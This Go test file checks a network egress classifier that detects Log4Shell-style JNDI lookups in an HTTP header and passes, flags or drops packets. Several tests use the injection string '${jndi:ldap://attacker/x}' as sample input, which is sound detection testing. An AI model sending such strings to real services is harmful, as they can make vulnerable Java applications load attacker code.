package egress

import (
	"encoding/binary"

	"github.com/WillGAndre/eLogJ/pkg/event"
	"github.com/WillGAndre/eLogJ/pkg/headerinfo"
	"github.com/WillGAndre/eLogJ/pkg/netpkt"
	"github.com/WillGAndre/eLogJ/pkg/ruleset"
	"github.com/WillGAndre/eLogJ/pkg/state"
	"testing"
)

func buildFrame(saddr, daddr uint32, payload []byte) []byte {
	frame := make([]byte, netpkt.TCPDataOffset()+len(payload))
	binary.BigEndian.PutUint16(frame[12:], 0x0800) // EtherType IPv4
	frame[netpkt.EthHeaderLen+9] = 6               // proto TCP
	binary.BigEndian.PutUint32(frame[netpkt.EthHeaderLen+12:], saddr)
	binary.BigEndian.PutUint32(frame[netpkt.EthHeaderLen+16:], daddr)
	copy(frame[netpkt.TCPDataOffset():], payload)
	return frame
}

func newTestClassifier(t *testing.T, rules ruleset.Set) (*Classifier, headerinfo.Info) {
	t.Helper()
	info, err := headerinfo.Compute("X-Api-Version")
	if err != nil {
		t.Fatalf("headerinfo.Compute: %v", err)
	}
	return New(info, rules, state.NewStore(), event.NewRing(8)), info
}

func TestCleanGETPasses(t *testing.T) {
	c, info := newTestClassifier(t, ruleset.Set{})
	payload := headerinfo.Baseline("X-Api-Version", "benign")
	frame := buildFrame(1, 2, payload)

	v := c.Inspect(frame, len(frame), 0)
	if v != PIPE {
		t.Fatalf("expected PIPE, got %v", v)
	}
	ev := <-c.Ring.Slot(0)
	if ev.ELvls != [3]uint32{0, 0, 0} {
		t.Fatalf("got elvls=%v", ev.ELvls)
	}
	if _, ok := c.Store.LOOKUPS.Get(2); ok {
		t.Fatalf("expected no LOOKUPS entry")
	}
	_ = info
}

func TestJNDILookupModeArms(t *testing.T) {
	c, _ := newTestClassifier(t, ruleset.Set{0, 0, 1, 0})
	payload := headerinfo.Baseline("X-Api-Version", "${jndi:ldap://attacker/x}")
	frame := buildFrame(1, 2, payload)

	v := c.Inspect(frame, len(frame), 0)
	if v != PIPE {
		t.Fatalf("expected PIPE (lookup mode defers drop), got %v", v)
	}
	ev := <-c.Ring.Slot(0)
	if ev.ELvls != [3]uint32{1, 1, 1} {
		t.Fatalf("got elvls=%v", ev.ELvls)
	}
	if count, ok := c.Store.LOOKUPS.Get(2); !ok || count != 1 {
		t.Fatalf("expected LOOKUPS[2]=1, got (%d,%v)", count, ok)
	}
}

func TestJNDIRequestModeBlocksAtSource(t *testing.T) {
	c, _ := newTestClassifier(t, ruleset.Set{0, 0, 2, 0})
	payload := headerinfo.Baseline("X-Api-Version", "${jndi:ldap://attacker/x}")
	frame := buildFrame(1, 2, payload)

	v := c.Inspect(frame, len(frame), 0)
	if v != SHOT {
		t.Fatalf("expected SHOT (request mode drops at egress), got %v", v)
	}
	if _, ok := c.Store.LOOKUPS.Get(2); ok {
		t.Fatalf("request mode must not arm LOOKUPS")
	}
}

func TestWhitelistOverridesEgressDrop(t *testing.T) {
	c, _ := newTestClassifier(t, ruleset.Set{0, 0, 2, 0})
	c.Store.WHLIST.Insert(1, 1)
	payload := headerinfo.Baseline("X-Api-Version", "${jndi:ldap://attacker/x}")
	frame := buildFrame(1, 2, payload)

	v := c.Inspect(frame, len(frame), 0)
	if v != PIPE {
		t.Fatalf("expected whitelist to override the drop, got %v", v)
	}
	ev := <-c.Ring.Slot(0)
	if !ev.Overridden() {
		t.Fatalf("expected overridden event")
	}
}

func TestSubstitutionPrefixAloneIsAnnotatedOnly(t *testing.T) {
	c, _ := newTestClassifier(t, ruleset.Set{0, 0, 1, 1})
	payload := headerinfo.Baseline("X-Api-Version", "${env:HOME}")
	frame := buildFrame(1, 2, payload)

	v := c.Inspect(frame, len(frame), 0)
	if v != PIPE {
		t.Fatalf("expected PIPE for non-jndi substitution, got %v", v)
	}
	ev := <-c.Ring.Slot(0)
	if ev.ELvls != [3]uint32{1, 0, 0} {
		t.Fatalf("got elvls=%v, want [1 0 0]", ev.ELvls)
	}
	if _, ok := c.Store.LOOKUPS.Get(2); ok {
		t.Fatalf("plain ${ must not arm LOOKUPS")
	}
}

func TestBlockedSourceIsShot(t *testing.T) {
	c, _ := newTestClassifier(t, ruleset.Set{})
	c.Store.BlockAddr(1)
	payload := headerinfo.Baseline("X-Api-Version", "benign")
	frame := buildFrame(1, 2, payload)

	v := c.Inspect(frame, len(frame), 0)
	if v != SHOT {
		t.Fatalf("expected SHOT for blocklisted source, got %v", v)
	}
}
